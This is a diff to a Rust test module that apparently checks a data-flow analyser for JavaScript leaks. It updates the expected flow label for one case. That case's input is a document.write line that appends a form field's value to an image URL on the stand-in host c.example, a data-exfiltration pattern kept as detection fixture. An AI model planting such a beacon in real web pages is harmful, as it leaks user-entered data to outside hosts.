@@ -195,7 +195,7 @@ mod tests {
             (
                 "by markup",
                 "document.write('<img src=//c.example/?'+a.value+'>')",
-                "Field+Address+ImageElement>Markup",
+                "Field+Address+ImageElement>Markup Field+Address+ImageElement>Written",
             ),
             (
                 "by a key that is taken out of an event",
